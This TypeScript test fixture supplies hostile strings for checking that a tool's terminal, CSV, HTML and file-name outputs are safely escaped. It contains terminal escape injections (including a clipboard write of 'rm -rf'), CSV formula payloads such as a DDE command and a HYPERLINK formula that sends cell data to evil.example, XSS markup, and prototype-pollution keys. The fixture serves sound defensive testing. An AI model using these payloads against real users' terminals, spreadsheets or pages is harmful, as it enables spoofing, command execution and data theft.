/**
 * Texts that try to be more than text, for everything that plazcast writes: terminal, log, JSON, CSV, HTML, file names. A
 * new trick is one line here, and every test of this folder tries it.
 */
export interface HostileString {
  readonly name: string;
  readonly text: string;
}

/** Moves a cursor, colours, sets a title, rings, hides, turns around. */
export const TERMINAL_STRINGS: readonly HostileString[] = [
  { name: 'title (OSC, BEL)', text: '\u001b]0;owned\u0007' },
  { name: 'clipboard (OSC 52)', text: '\u001b]52;c;cm0gLXJm\u001b\\' },
  { name: 'link (OSC 8)', text: '\u001b]8;;https://evil.example\u001b\\bank\u001b]8;;\u001b\\' },
  { name: 'clear screen (CSI)', text: '\u001b[2J\u001b[H' },
  { name: 'colour (SGR)', text: '\u001b[7mred\u001b[27m' },
  { name: 'cursor up and erase (CSI)', text: '\u001b[1A\u001b[2K' },
  { name: 'report of the terminal (DECRQSS)', text: '\u001bP$q"p\u001b\\' },
  { name: 'C1 CSI', text: '\u009b2J' },
  { name: 'C1 OSC', text: '\u009d0;owned\u009c' },
  { name: 'next line (C1)', text: 'a\u0085b' },
  { name: 'backspaces', text: 'abc\b\b\bxyz' },
  { name: 'carriage return', text: 'accepted\rrefused ' },
  { name: 'line feed', text: 'a\nerror: b' },
  { name: 'tab', text: 'a\tb' },
  { name: 'vertical tab and form feed', text: 'a\u000b\u000cb' },
  { name: 'shift out', text: '\u000eabc\u000f' },
  { name: 'delete', text: 'a\u007fb' },
  { name: 'nul', text: 'a\u0000b' },
  { name: 'right-to-left override', text: '\u202egnp.exe\u202c' },
  { name: 'right-to-left isolate', text: '\u2067abc\u2069' },
  { name: 'direction marks', text: 'a\u200e\u200f\u061cb' },
  { name: 'zero width', text: 'p\u200ba\u200cy\u200dp\u2060a\ufeffl' },
  { name: 'line and paragraph separator', text: 'a\u2028b\u2029c' },
  { name: 'soft hyphen', text: 'pay\u00adpal' },
  { name: 'invisible letters', text: 'a\u3164b\u115fc' },
  { name: 'tags', text: 'a\u{e0041}\u{e007f}b' },
];

/** A formula in some spreadsheet, in some separator. */
export const FORMULA_STRINGS: readonly HostileString[] = [
  ...['=1+1', '+1', '-1', '@SUM(1)', '＝1', '＋1', '－1', '＠1'].map((text) => ({ name: text, text })),
  ...[
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff@x',
    '\u0000=1',
    ' \t +1',
    '"=1"',
    "'=1",
  ].map((text) => ({ name: JSON.stringify(text), text })),
  ...[';', ',', '|', '\t', '\r\n', '\n', '\r'].flatMap((mark) =>
    ['=40+2', '+1', '-1', '@x', ' =1', '"=1"', '""=1', "'=1", '＝1'].map((formula) => ({
      name: `${formula} behind ${JSON.stringify(mark)}`,
      text: `Hola${mark}${formula}${mark}fin`,
    })),
  ),
  { name: 'dde', text: '=cmd|"/c calc"!A0' },
  { name: 'hyperlink', text: '=HYPERLINK("https://evil.example?x="&A1,"ok")' },
];

const SCRIPT = '<script>document.title="broken"</script><img src=x onerror="document.title=1">';

/** More than text in a page. */
export const MARKUP_STRINGS: readonly HostileString[] = [
  { name: 'script', text: SCRIPT },
  { name: 'attribute', text: '"><svg onload=x>' },
  { name: 'end of the title', text: `'</title>${SCRIPT}` },
  { name: 'end of the style', text: `</style>${SCRIPT}` },
  { name: 'end of a text of a drawing', text: `</text>${SCRIPT}` },
  { name: 'comment', text: '<!-- --!><b>' },
  { name: 'placeholder', text: '{count, plural} {name} <b>' },
];

/** Names that objects have already. */
export const NAME_STRINGS: readonly HostileString[] = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
].map((text) => ({ name: text, text }));

/** Everything, for outputs that must take all of it. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...TERMINAL_STRINGS,
  ...FORMULA_STRINGS,
  ...MARKUP_STRINGS,
  ...NAME_STRINGS,
  { name: 'half a surrogate pair', text: 'a\ud800b' },
  { name: 'a word without an end', text: 'Donaudampfschifffahrt'.repeat(40) },
];

/** All tricks of a terminal in one text, as far as `allowed` lets them stand in some place. */
export function terminalText(allowed: (text: string) => boolean = () => true): string {
  return TERMINAL_STRINGS.map(({ text }) => text)
    .filter(allowed)
    .join('_');
}

/** What can stand in the name of a file, or be a word of a command line. */
export function inFileName(text: string): boolean {
  return !/[/\0]/u.test(text);
}

/** Ranges of what no terminal may get from outside. Written out here, so that the code cannot be its own judge. */
const RAW: readonly (readonly [first: number, last: number])[] = [
  [0x00, 0x09],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x180b, 0x180e],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfeff, 0xfeff],
  [0xe0000, 0xe007f],
];

/** The raw characters of an output that are none of its own, as numbers; `own` takes away what plazcast itself writes. */
export function rawIn(output: string, own: RegExp = /(?!)/gu): readonly string[] {
  const codes = Array.from(output.replace(own, ''), (character) => character.codePointAt(0) ?? 0);
  const raw = codes.filter((code) => RAW.some(([first, last]) => code >= first && code <= last));
  return [...new Set(raw)].map((code) => code.toString(16));
}

/** One colour as picocolors and pino-pretty write it; none of them stands in a hostile text. */
export const OWN_COLOUR = '\\u001b\\[(?:0|1|2|22|3[12346]|39|90)m';
export const OWN_COLOURS = new RegExp(OWN_COLOUR, 'gu');
